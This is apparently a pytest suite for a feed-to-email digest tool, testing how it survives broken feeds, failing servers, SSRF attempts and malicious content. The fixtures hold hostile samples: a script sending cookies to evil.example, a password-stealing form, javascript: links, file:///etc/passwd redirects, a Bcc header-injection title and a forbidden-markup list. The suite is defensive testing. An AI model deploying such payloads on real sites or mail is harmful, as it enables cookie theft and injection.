"""A hostile world, feed side: broken feeds, bad pages, failing servers, malicious content.

Every feed and page is served by a real HTTP server on 127.0.0.1, collected into a
real SQLite store, composed and rendered. The run goes on with what works, says
exactly what failed (once, with the source's name), and nothing a feed chose reaches
the email as markup.
"""

from __future__ import annotations

import asyncio
import gc
import json
import logging
import time
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from click.testing import CliRunner

from digest import pipeline
from digest.cli import cli
from digest.collect import collect_feeds, stage
from digest.collect.feeds import parse_feed
from digest.collect.netguard import check_url_allowed
from digest.config import CollectConfig, SourceConfig
from digest.config.load import load_config
from digest.errors import FetchError
from digest.mail.message import build_template
from digest.models import Entry
from digest.render.emailsafety import check_email_html
from digest.schedule.status import gather_status
from digest.store import Store
from tests.httpserver import LocalHTTPServer, Response

RSS = "application/rss+xml"
NOW = datetime(2026, 11, 25, 7, 0, tzinfo=UTC)

ARTICLE = [
    "The city council approved a new budget on Tuesday that doubles spending on public "
    "transport over the next five years, the mayor's office said.",
    "The plan adds twelve bus lines, extends two tram routes to the northern suburbs and "
    "funds a night service that residents have requested for a decade.",
    "Council members voted 31 to 9 in favour after a debate that lasted more than six hours.",
    "Opposition members argued that the plan relies on optimistic forecasts of ticket revenue "
    "and could force cuts elsewhere if the economy slows.",
]

# What a malicious page may carry; none of it may reach the email as markup.
EVIL_PAGE = (
    "<!doctype html><html><head><title>Evil page</title>"
    "<style>body{background:url(javascript:alert(1))} p{behavior:url(x.htc)}</style>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "</head><body><article><h1>Evil page</h1>"
    f'<p onclick="alert(1)">{ARTICLE[0]} <a href="javascript:alert(1)">click here</a></p>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/steal"><input name="password"></form>'
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">'
    f'<p>{ARTICLE[1]} <img src="data:image/png;base64,AAAA" onerror="alert(2)"></p>'
    f'<p>{ARTICLE[2]} <img src="https://tracker.example/pixel.gif?u=1" width="1" height="1"></p>'
    f'<p style="x:expression(alert(3))">{ARTICLE[3]}</p>'
    "</article></body></html>"
)
TRACKING_SUMMARY = (
    '<p>Feed summary <img src="https://tracker.example/open.gif?id=42" width="1" height="1">'
    '<script>alert(4)</script><a href="javascript:alert(5)" onmouseover="x()">more</a></p>'
)
# Markup or URLs from the feeds and pages above; none may survive into the email.
FORBIDDEN = (
    "<script",
    "&lt;script",
    "alert(",
    "<iframe",
    "<form",
    "<object",
    "<embed",
    "onclick",
    "onerror",
    "onmouseover",
    "javascript:",
    "data:image",
    "expression(",
    "behavior:",
    "evil.example",
    "tracker.example",
    'http-equiv="refresh"',
)


def page(title: str, paragraphs: list[str] = ARTICLE) -> str:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (
        f"<!doctype html><html><head><title>{title}</title></head><body>"
        f"<article><h1>{title}</h1>{body}</article></body></html>"
    )


def rss(items: list[tuple[str, str, str]], *, when: datetime) -> str:
    """RSS 2.0 with (title, link, description) items; titles and descriptions go in CDATA."""
    out = "".join(
        f"<item><title><![CDATA[{title}]]></title><link>{link}</link><guid>{link}</guid>"
        f"<pubDate>{format_datetime(when)}</pubDate>"
        f"<description><![CDATA[{text}]]></description></item>"
        for title, link, text in items
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>{out}</channel></rss>'


# --- parsing: each hostile document gives entries or one FetchError, never a crash ---------


def parse(body: bytes, content_type: str | None = RSS) -> list[Entry]:
    return parse_feed(
        body, source="s", base_url="https://feeds.example/f/feed.xml", content_type=content_type
    )


HEAD = b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'


def test_unclosed_tags_keep_the_items_before_the_break() -> None:
    body = HEAD + b"<item><title>One</title><link>/a</link></item><item><title>Two<link>/b"
    (first,) = parse(body)
    assert (first.title, first.url) == ("One", "https://feeds.example/a")


@pytest.mark.parametrize(
    ("ref", "shown"),
    [
        (b"&bogus;", "&bogus;"),  # an undefined entity stays as text
        (b"&#x110000;", "\ufffd"),  # beyond Unicode: feedparser itself would crash
        (b"&#xD800;", "\ufffd"),  # a surrogate: likewise
        (b"&#" + b"9" * 5000 + b";", "\ufffd"),  # a 5,000-digit number
        (b"&#0;", ""),  # NUL is dropped
        (b"&eacute;", "\xe9"),  # an HTML entity XML does not define
    ],
)
def test_bad_entities_never_crash(ref: bytes, shown: str) -> None:
    body = HEAD + b"<item><title>a " + ref + b" b</title><link>/a</link></item></channel></rss>"
    (entry,) = parse(body)
    assert entry.title == f"a {shown} b".replace("  ", " ")


def test_incomplete_cdata_keeps_earlier_items_and_fails_when_nothing_is_left() -> None:
    broken = b"<item><title><![CDATA[Never closed</title><link>/x</link></item></channel></rss>"
    good = b"<item><title>Good</title><link>/g</link></item>"
    (entry,) = parse(HEAD + good + broken)
    assert entry.title == "Good"
    # Before: a feed broken at its first item passed as an empty, healthy feed.
    with pytest.raises(FetchError, match=r"^invalid XML: line 1, column \d+: unclosed CDATA"):
        parse(HEAD + broken)


@pytest.mark.parametrize(
    ("body", "content_type", "title"),
    [
        # latin-1 bytes sent as UTF-8 (header and declaration both lie)
        (
            b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><item>'
            b"<title>Caf\xe9 cr\xe8me \xe0 la fran\xe7aise</title><link>/a</link></item>"
            b"</channel></rss>",
            "application/rss+xml; charset=utf-8",
            "Café crème à la française",
        ),
        # a UTF-8 BOM followed by bytes that are not UTF-8
        (
            b"\xef\xbb\xbf" + HEAD + b"<item><title>ok \xff\xfe end</title><link>/a</link>"
            b"</item></channel></rss>",
            RSS,
            None,
        ),
        # UTF-16 with a BOM and no declaration
        (
            "<rss version='2.0'><channel><item><title>Ünïcödé</title><link>/a</link></item>"
            "</channel></rss>".encode("utf-16"),
            "application/xml",
            "Ünïcödé",
        ),
        # UTF-16 whose declaration names UTF-16
        (
            "<?xml version='1.0' encoding='utf-16'?><rss version='2.0'><channel><item>"
            "<title>Ünïcödé</title><link>/a</link></item></channel></rss>".encode("utf-16"),
            None,
            "Ünïcödé",
        ),
        # Shift-JIS, undeclared
        (
            "<rss version='2.0'><channel><item><title>東京で新しい美術館が開館しました</title>"
            "<link>/a</link></item></channel></rss>".encode("shift_jis"),
            RSS,
            "東京で新しい美術館が開館しました",
        ),
    ],
    ids=["latin1-as-utf8", "bom-plus-invalid-bytes", "utf16-bom", "utf16-declared", "sjis"],
)
def test_wrong_or_missing_charsets(body: bytes, content_type: str | None, title: str) -> None:
    (entry,) = parse(body, content_type)
    if title is None:  # undecodable bytes: some stand-in characters, a clean title
        assert entry.title.startswith("ok ") and entry.title.endswith(" end")
    else:
        assert entry.title == title


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"\xef\xbb\xbf", "empty document"),
        (b"\xef\xbb\xbf\r\n  \n", "empty document"),
        ("\ufeff".encode("utf-16"), "empty document"),
        (b"<!DOCTYPE html><html><body><p>welcome</p></body></html>", "not a feed: the document"),
        (b"\x00\x01\x02binary\xff", "not a feed: the document is neither XML nor JSON"),
    ],
)
def test_empty_and_non_feed_documents(body: bytes, reason: str) -> None:
    with pytest.raises(FetchError, match=reason):
        parse(body, None)


def test_json_feed_with_wrong_types_everywhere() -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": ["not", "a", "string"],
        "items": [
            {"id": [1], "title": {"a": 1}, "url": 5, "date_published": 12345, "summary": None},
            {"id": True, "title": 7, "content_html": ["x"], "authors": "nobody"},
            "not an object",
            None,
            {"id": "ok", "title": "Fine", "url": "/ok", "date_published": "2026-13-45T99:99"},
        ],
    }
    (entry,) = parse(json.dumps(doc).encode(), "application/feed+json")
    assert (entry.title, entry.url, entry.published) == ("Fine", "https://feeds.example/ok", None)
    for items in ('"nope"', "null", "{}"):
        body = f'{{"version": "https://jsonfeed.org/version/1.1", "items": {items}}}'.encode()
        with pytest.raises(FetchError, match='JSON Feed without an "items" list'):
            parse(body, "application/feed+json")


def test_items_without_dates_links_or_titles() -> None:
    body = HEAD + (
        b"<item><description>Only a description, no title or link.</description></item>"
        b"<item><title>Only a title</title></item>"
        b"<item><link>/only-a-link</link></item>"
        b"<item></item><item><title>  </title><description> </description></item>"
        b"</channel></rss>"
    )
    described, titled, linked = parse(body)
    assert (described.title, described.url) == ("Only a description, no title or link.", "")
    assert (titled.title, titled.url, titled.published) == ("Only a title", "", None)
    # A bare link keeps its URL; the page's own title fills in after extraction.
    assert (linked.title, linked.url) == ("", "https://feeds.example/only-a-link")
    assert described.guid != titled.guid  # still unique, so both are kept


@pytest.mark.parametrize(
    ("date", "expected"),
    [
        ("2026-11-24", datetime(2026, 11, 24, tzinfo=UTC)),
        ("Tue, 24 Nov 2026 10:00:00 +0530", datetime(2026, 11, 24, 4, 30, tzinfo=UTC)),
        ("2026-11-24T10:00:00.123456789+01:00", datetime(2026, 11, 24, 9, 0, tzinfo=UTC)),
        ("24/11/2026 10:00", None),
        ("yesterday", None),
        ("", None),
        ("Tue, 99 Nov 2026 99:99:99 GMT", None),
        ("2099-01-01T00:00:00Z", None),  # in the future: treated as undated
        ("9999-12-31T23:59:59Z", None),
    ],
)
def test_dates_in_odd_formats_or_the_future(date: str, expected: datetime | None) -> None:
    body = (
        HEAD
        + (
            f"<item><title>t</title><link>/a</link><pubDate>{date}</pubDate></item></channel></rss>"
        ).encode()
    )
    (entry,) = parse_feed(body, source="s", base_url="https://f.example/", now=NOW)
    got = entry.published.replace(microsecond=0) if entry.published else None
    assert got == expected


@pytest.mark.parametrize(
    ("title", "clean"),
    [
        ("Hello <script>alert(1)</script> world", "Hello world"),
        ("Hello &lt;script&gt;alert(1)&lt;/script&gt; world", "Hello world"),
        # escaped twice: one decoding would leave a tag as text
        ("Hello &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; world", "Hello world"),
        ("<b onmouseover='x()'>Bold</b> &amp; <i>brave</i>", "Bold & brave"),
        ("Fish &amp;amp; Chips &#8211; &quot;best&quot; &#x1F41F;", 'Fish & Chips – "best" 🐟'),
        ("Line\r\nbreak\x00\u202eevil\u2066 title\u200b", "Line breakevil title"),
        ("5 < 6 and 7 > 3", "5 < 6 and 7 > 3"),
    ],
)
def test_html_and_entities_in_titles(title: str, clean: str) -> None:
    doc = {"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "1", "title": title}]}
    (entry,) = parse(json.dumps(doc).encode(), "application/feed+json")
    assert entry.title == clean


def test_relative_and_hostile_links() -> None:
    links = [
        "../up/one.html",
        "//cdn.example/two",
        "?page=3",
        "  /spaced path  ",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "http://[::1",
        "mailto:x@example.com",
    ]
    body = (
        HEAD
        + "".join(
            f"<item><title>t{i}</title><link>{link}</link></item>" for i, link in enumerate(links)
        ).encode()
        + b"</channel></rss>"
    )
    urls = [e.url for e in parse(body)]
    assert urls == [
        "https://feeds.example/up/one.html",
        "https://cdn.example/two",
        "https://feeds.example/f/feed.xml?page=3",
        "https://feeds.example/spaced%20path",
        "",
        "",
        "",
        "",
        "",
    ]


def enormous_feed(link: str, words: int = 1_000_000) -> bytes:
    """A title of `words` words, 2,000 inline elements (feedparser's slow case), much text."""
    return (
        HEAD
        + (
            f"<item><title>{'word ' * words}</title><link>{link}</link>"
            f"<description>{'<p>text</p>' * 2000}</description></item>"
            f"<item><title>Second</title><link>{link}/2</link>"
            f"<description><![CDATA[{'<b>long</b> ' * (words // 10)}]]></description></item>"
            "</channel></rss>"
        ).encode()
    )


def test_enormous_items_are_capped() -> None:
    start = time.monotonic()
    first, second = parse(enormous_feed("/a", words=300_000))
    assert time.monotonic() - start < 60  # capped, not quadratic (minutes uncapped)
    assert len(first.title) <= 300 and first.title.endswith("word…")
    assert len(second.summary) <= 1000 and "<" not in second.summary


# --- the private-network guard: the address decision, no connection made -----------------


@pytest.mark.parametrize(
    ("url", "problem"),
    [
        ("http://127.0.0.1:8080/admin", "loopback"),
        ("http://127.1/", "loopback"),  # short form, resolved locally
        ("http://2130706433/", "loopback"),  # 127.0.0.1 as one decimal number
        ("http://0x7f000001/", "loopback"),
        ("http://10.1.2.3/", "private"),
        ("http://192.168.0.1/", "private"),
        ("http://169.254.169.254/latest/meta-data/", "link-local"),
        ("http://[::1]/", "loopback"),
        ("http://[::ffff:169.254.169.254]/", "link-local"),
        ("http://[fe80::1]/", "link-local"),
        ("http://0.0.0.0/", "unspecified"),
    ],
)
def test_private_addresses_are_refused_without_connecting(url: str, problem: str) -> None:
    reason = asyncio.run(check_url_allowed(url, trusted_hosts=frozenset(), allow_private=False))
    assert reason is not None and reason.startswith("refused:") and problem in reason
    assert "allow_private" in reason  # says how to allow it


# --- end to end: hostile sources beside good ones -----------------------------------------


@pytest.fixture(scope="module")
def server() -> Iterator[LocalHTTPServer]:
    s = LocalHTTPServer().start()
    yield s
    s.stop()


HUGE = b"<rss>" + b"x" * 20_000_000  # 20 MB


def hostile_routes(s: LocalHTTPServer, now: datetime) -> dict[str, str]:
    """Serve one good feed and many hostile ones; return source name -> expected error."""
    when = now - timedelta(hours=1)
    s.routes["/good/feed"] = Response(
        rss(
            [
                (
                    "Hello <script>alert(1)</script> world",
                    s.url("/good/lead"),
                    TRACKING_SUMMARY,
                ),
                ("Evil page", s.url("/good/evil"), "A page full of traps."),
                ("Tracked story", s.url("/good/missing"), TRACKING_SUMMARY),
            ],
            when=when,
        ),
        content_type=RSS,
    )
    # The lead is the story with the most text: the evil page carries the same article, so
    # this one says a little more (extraction may keep the evil page's heading and links).
    more = "Work on the first tram extension is due to start next spring, officials said."
    s.routes["/good/lead"] = Response(page("Hello world", [*ARTICLE, more]))
    s.routes["/good/evil"] = Response(EVIL_PAGE)
    calls: list[float] = []

    def limited(_: BaseHTTPRequestHandler) -> Response:
        calls.append(time.monotonic())
        if len(calls) == 1:
            return Response("slow down", status=429, headers={"Retry-After": "1"})
        return Response(
            rss([("Patience pays", s.url("/limited/story"), "Waited.")], when=when),
            content_type=RSS,
        )

    s.routes["/limited/feed"] = limited
    s.routes["/limited/story"] = Response(page("Patience pays"))
    s.routes["/cdata/feed"] = Response(
        b'<?xml version="1.0"?><rss version="2.0"><channel><item><title><![CDATA[Never '
        b"closed</title></item></channel></rss>",
        content_type=RSS,
    )
    s.routes["/empty/feed"] = Response(b"", content_type=RSS)
    s.routes["/html/feed"] = Response("<!doctype html><html><body>Our homepage</body></html>")
    s.routes["/json/feed"] = Response(
        '{"version": "https://jsonfeed.org/version/1.1", "items": "none today"}',
        content_type="application/feed+json",
    )
    s.routes["/forbidden/feed"] = Response("go away", status=403, content_type="text/plain")
    s.routes["/error/feed"] = Response("oops", status=500, content_type="text/plain")
    s.routes["/greedy/feed"] = Response("later", status=429, headers={"Retry-After": "3600"})
    s.routes["/hang/feed"] = Response(rss([], when=when), delay=4.0)
    s.routes["/trickle/feed"] = Response(rss([], when=when), chunk_delay=0.05)
    s.routes["/loop/a"] = Response(status=302, headers={"Location": "/loop/b"})
    s.routes["/loop/b"] = Response(status=302, headers={"Location": "/loop/a"})
    s.routes["/scheme/feed"] = Response(status=301, headers={"Location": "file:///etc/passwd"})
    s.routes["/js/feed"] = Response(status=302, headers={"Location": "javascript:alert(1)"})
    s.routes["/huge/feed"] = Response(HUGE, content_type=RSS)
    s.routes["/enormous/feed"] = Response(
        enormous_feed(s.url("/enormous/a"), words=120_000), content_type=RSS
    )
    return {
        "CDATA": "invalid XML: line 1, column 131: unclosed CDATA section",
        "Empty": "empty document",
        "Homepage": "not a feed: the document is HTML",
        "Bad JSON": 'not a feed: JSON Feed without an "items" list',
        "Forbidden": "HTTP 403 Forbidden",
        "Error": "HTTP 500 Internal Server Error",
        "Greedy": "HTTP 429 Too Many Requests (server asks to wait 3600 s, more than the",
        "Hang": "timed out after 1.5 s",
        "Trickle": "timed out after 1.5 s",
        "Loop": "too many redirects (>5)",
        "Scheme": "redirect to non-http URL file:///etc/passwd",
        "JS": "redirect to an invalid URL (",
        "Huge": "body over 1000000 bytes, cut; raise [collect] max_bytes",
    }


PATHS = {
    "Good": "/good/feed",
    "Limited": "/limited/feed",
    "CDATA": "/cdata/feed",
    "Empty": "/empty/feed",
    "Homepage": "/html/feed",
    "Bad JSON": "/json/feed",
    "Forbidden": "/forbidden/feed",
    "Error": "/error/feed",
    "Greedy": "/greedy/feed",
    "Hang": "/hang/feed",
    "Trickle": "/trickle/feed",
    "Loop": "/loop/a",
    "Scheme": "/scheme/feed",
    "JS": "/js/feed",
    "Huge": "/huge/feed",
    "Enormous": "/enormous/feed",
}


def write_config(tmp_path: Path, s: LocalHTTPServer, extra: str = "") -> Path:
    sources = "".join(
        f'\n[[sources]]\nname = "{name}"\nurl = "{s.url(path)}"\n'
        + ("priority = 5\n" if name == "Good" else "")
        for name, path in PATHS.items()
    )
    path = tmp_path / "config.toml"
    path.write_text(
        f"""
[site]
name = "Hostile Digest"
url = "https://digest.example.org"
timezone = "UTC"
{sources}
[store]
url = "sqlite:///state.db"

[collect]
timeout = 1.5
deadline = 30.0
max_bytes = 1000000
{extra}
""",
        encoding="utf-8",
    )
    return path


def test_hostile_sources_fail_alone_once_with_reason_and_the_issue_is_clean(
    server: LocalHTTPServer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    now = datetime.now(tz=UTC)
    expected = hostile_routes(server, now)
    # Both good pages say the same; the lead with the hostile title is pinned.
    pin = f'[compose]\npin = "{server.url("/good/lead")}"\n'
    config = load_config(write_config(tmp_path, server, extra=pin))
    store = Store.open(config.store.url)
    start = time.monotonic()
    with caplog.at_level(logging.WARNING, logger="digest"):
        report = pipeline.collect_articles(config, store, now=now)
    elapsed = time.monotonic() - start
    # Side by side: the hanging source costs its 1.5 s timeout, not the others' turns
    # (one after another would take well over a minute; a busy machine needs slack).
    assert elapsed < config.collect.deadline, elapsed

    by_name = {r.source: r for r in report.sources}
    assert [r.source for r in report.sources] == list(PATHS)  # every source, in order
    errors = {name: r.error for name, r in by_name.items() if r.error}
    assert set(errors) == set(expected)
    for name, reason in expected.items():
        assert (errors[name] or "").startswith(reason), (name, errors[name])
    # The good source and the rate-limited one (429 + Retry-After: 1, honoured) work.
    assert by_name["Good"].ok and by_name["Good"].new_articles == 3
    assert by_name["Limited"].ok and by_name["Limited"].new_articles == 1
    # Enormous items are kept, cut to size (their pages are missing: two warnings).
    assert by_name["Enormous"].ok and by_name["Enormous"].new_articles == 2
    # Each failure is logged exactly once, with the source's name and the reason.
    failure_lines = [r.getMessage() for r in caplog.records if "source " in r.getMessage()]
    for name, reason in expected.items():
        mine = [m for m in failure_lines if m.startswith(f"source {name}: ")]
        assert len(mine) == 1 and reason in mine[0], (name, mine)
    # Each page that failed is named with its reason on its source's report.
    (missing,) = by_name["Good"].warnings
    assert missing == f"{server.url('/good/missing')}: HTTP 404 Not Found"
    # The failures are in the store, so `digest status` can show them.
    states = store.source_states()
    assert {n for n, st in states.items() if st.consecutive_failures} == set(expected)

    issue = pipeline.build_issue(config, store, now=now)
    assert issue is not None
    assert issue.lead.article.title == "Hello world"
    assert {s.article.source for s in issue.stories} == {"Good", "Limited", "Enormous"}
    rendered = pipeline.render_email(config, issue, now=now)
    assert check_email_html(rendered.html) == []
    for needle in FORBIDDEN:
        assert needle not in rendered.html, needle
        assert needle not in rendered.text, needle
        assert needle not in rendered.subject, needle
    lead, *more = rendered.subject.split(" · ")  # the lead, then one more story if it fits
    assert lead == "Hello world" and len(more) <= 1 and len(rendered.subject) <= 70
    assert "Hello world" in rendered.html and "Evil page" in rendered.html
    assert ARTICLE[0][:60] in rendered.html  # the evil page's text is used, as text
    store.close()


def test_a_20_mb_body_is_cut_at_the_cap_without_holding_it(server: LocalHTTPServer) -> None:
    server.routes["/huge/feed"] = Response(HUGE, content_type=RSS)
    source = SourceConfig(name="Huge", url=server.url("/huge/feed"))
    cfg = CollectConfig(timeout=5.0, deadline=10.0, max_bytes=1_000_000)
    gc.collect()
    tracemalloc.start()
    try:
        (res,) = asyncio.run(collect_feeds([source], cfg, {}))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert res.error is not None and res.error.startswith("body over 1000000 bytes, cut")
    assert peak < 6_000_000, peak  # a few chunks beyond the 1 MB kept, never the 20 MB


def test_a_public_source_cannot_steer_us_to_another_loopback_port(
    server: LocalHTTPServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = LocalHTTPServer().start()
    try:
        target.routes["/admin"] = Response(page("Internal admin"))
        server.routes["/pub/feed"] = Response(
            rss([("Look inside", target.url("/admin"), "A link into the network.")], when=NOW),
            content_type=RSS,
        )
        path = tmp_path / "config.toml"
        path.write_text(
            f'[site]\nname = "D"\nurl = "https://d.example"\n\n[[sources]]\nname = "Pub"\n'
            f'url = "{server.url("/pub/feed")}"\n\n[store]\nurl = "sqlite:///s.db"\n',
            encoding="utf-8",
        )
        config = load_config(path)
        store = Store.open(config.store.url)
        # As if 127.0.0.1 were this source's public address: its host is not trusted.
        monkeypatch.setattr(stage, "is_public_address", lambda _host: True)
        report = pipeline.collect_articles(config, store, now=NOW)
        (pub,) = report.sources
        assert pub.ok and pub.new_articles == 1
        (warning,) = pub.warnings
        assert warning.startswith(f"{target.url('/admin')}: refused: 127.0.0.1 is a loopback")
        assert target.requests == []  # never contacted
        (article,) = store.unissued_articles(NOW - timedelta(days=1))
        assert article.text == "A link into the network."  # the feed's own words only
        store.close()
    finally:
        target.stop()


# --- failure reporting: the run summary and `digest status` -------------------------------


def test_failures_in_the_summary_and_status_and_the_flag_threshold(
    server: LocalHTTPServer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    server.routes["/ok/feed"] = Response(
        rss([("Fine story", server.url("/ok/story"), "Fine.")], when=datetime.now(tz=UTC)),
        content_type=RSS,
    )
    server.routes["/ok/story"] = Response(page("Fine story"))
    server.routes["/down/feed"] = Response("down", status=503, content_type="text/plain")
    path = tmp_path / "config.toml"
    path.write_text(
        f'[site]\nname = "D"\nurl = "https://d.example"\n\n'
        f'[[sources]]\nname = "Fine"\nurl = "{server.url("/ok/feed")}"\n\n'
        f'[[sources]]\nname = "Down [bold]Feed"\nurl = "{server.url("/down/feed")}"\n\n'
        '[store]\nurl = "sqlite:///s.db"\n\n[collect]\ntimeout = 2.0\nflag_after_failures = 3\n',
        encoding="utf-8",
    )
    runner = CliRunner()
    reason = "HTTP 503 Service Unavailable"
    for run in (1, 2, 3):
        caplog.clear()
        with caplog.at_level(logging.WARNING, logger="digest"):
            result = runner.invoke(cli, ["--config", str(path), "collect"], env={"COLUMNS": "200"})
        assert result.exit_code == 0, result.output  # one source works: not a failed run
        rows = [line for line in result.stdout.splitlines() if "Down [bold]Feed" in line]
        assert len(rows) == 1 and f"failed: {reason}" in rows[0], result.stdout
        assert ("3 runs in a row" in rows[0]) is (run == 3)
        (line,) = [r.getMessage() for r in caplog.records if reason in r.getMessage()]
        assert line.startswith(f"source Down [bold]Feed: {reason}")  # the one log line
        assert ("failed 3 runs in a row" in line) is (run == 3)
        status = runner.invoke(cli, ["--config", str(path), "status"])
        assert status.exit_code == 0, status.output
        flagged = [line for line in status.stdout.splitlines() if "Down [bold]Feed:" in line]
        if run < 3:
            assert "failing sources: none" in status.stdout
        else:
            assert len(flagged) == 1 and f"3 times in a row: {reason}" in flagged[0]
    config = load_config(path)
    store = Store.open(config.store.url)
    st = gather_status(config, store, now=datetime.now(tz=UTC))
    assert [s.name for s in st.failing] == ["Down [bold]Feed"]
    # It recovers: the flag goes away with the first success.
    server.routes["/down/feed"] = server.routes["/ok/feed"]
    assert runner.invoke(cli, ["--config", str(path), "collect"]).exit_code == 0
    assert gather_status(config, store, now=datetime.now(tz=UTC)).failing == ()
    store.close()


@pytest.mark.parametrize("value", ["0", "-1", '"3"', "2.5"])
def test_flag_threshold_is_validated(tmp_path: Path, value: str) -> None:
    path = tmp_path / "config.toml"
    path.write_text(
        '[site]\nname = "D"\nurl = "https://d.example"\n\n[[sources]]\nname = "A"\n'
        f'url = "https://a.example/feed"\n\n[collect]\nflag_after_failures = {value}\n',
        encoding="utf-8",
    )
    result = CliRunner().invoke(cli, ["--config", str(path), "status"])
    assert result.exit_code == 2
    assert "collect.flag_after_failures" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


# --- content safety: the subject ----------------------------------------------------------


def test_a_nasty_title_becomes_a_clean_one_line_subject(
    server: LocalHTTPServer, tmp_path: Path
) -> None:
    nasty = (
        "Breaking\r\nBcc: victim@example.com\x00 \u202egnp.exe\u2066 news "
        + "<script>alert(1)</script> "
        + "long " * 400
    )
    now = datetime.now(tz=UTC)
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [
            {
                "id": "n",
                "url": server.url("/nasty/story"),
                "title": nasty,
                "date_published": (now - timedelta(hours=1)).isoformat(),
                "content_html": "<p>" + " ".join(ARTICLE) + "</p>",
            }
        ],
    }
    server.routes["/nasty/feed"] = Response(json.dumps(doc), content_type="application/json")
    server.routes["/nasty/story"] = Response(page(nasty.replace("<", "&lt;")))
    path = tmp_path / "config.toml"
    path.write_text(
        f'[site]\nname = "D"\nurl = "https://d.example"\n\n[[sources]]\nname = "N"\n'
        f'url = "{server.url("/nasty/feed")}"\n\n[store]\nurl = "sqlite:///s.db"\n\n'
        '[smtp]\nhost = "127.0.0.1"\nport = 2525\nsecurity = "none"\n'
        'from = "D <d@d.example>"\n',
        encoding="utf-8",
    )
    config = load_config(path)
    store = Store.open(config.store.url)
    pipeline.collect_articles(config, store, now=now)
    issue = pipeline.build_issue(config, store, now=now)
    assert issue is not None
    rendered = pipeline.render_email(config, issue, now=now)
    subject = rendered.subject
    assert subject.startswith("Breaking Bcc: victim@example.com gnp.exe news long")
    assert len(subject) <= config.render.max_subject and subject.endswith("…")
    assert not any(c in subject for c in "\r\n\x00\u202e\u2066<>")
    assert check_email_html(rendered.html) == []
    assert smtp_subject(rendered, config) == subject
    store.close()


def smtp_subject(rendered: object, config: object) -> str:
    """Return the Subject header of the built message, unfolded and decoded."""
    from email import message_from_bytes, policy

    from digest.config import Config
    from digest.models import RenderedIssue

    assert isinstance(rendered, RenderedIssue) and isinstance(config, Config)
    assert config.smtp is not None
    template = build_template(rendered, smtp=config.smtp, site=config.site)
    data = template.render(
        to="reader@example.org",
        date="Wed, 25 Nov 2026 07:00:00 +0000",
        message_id="<x@y>",
        token="T" * 32,
    )
    head = data.split(b"\r\n\r\n", 1)[0]
    assert b"\nBcc:" not in head and b"\x00" not in head
    msg = message_from_bytes(data, policy=policy.default)
    return str(msg["Subject"])
